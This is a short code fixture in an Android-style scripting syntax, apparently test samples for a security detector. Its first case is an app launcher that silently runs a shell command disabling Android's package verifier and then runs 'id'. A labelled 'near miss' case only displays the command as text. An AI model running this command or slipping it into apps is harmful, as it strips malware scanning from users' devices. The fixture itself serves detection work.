permissions("INTERNET")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        Runtime.getRuntime().exec("settings put global package_verifier_enable 0")
        Runtime.getRuntime().exec("id")

# near miss: shows the command to a developer
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        TextView(self).setText("settings put global package_verifier_enable 0")
        Runtime.getRuntime().exec("id")
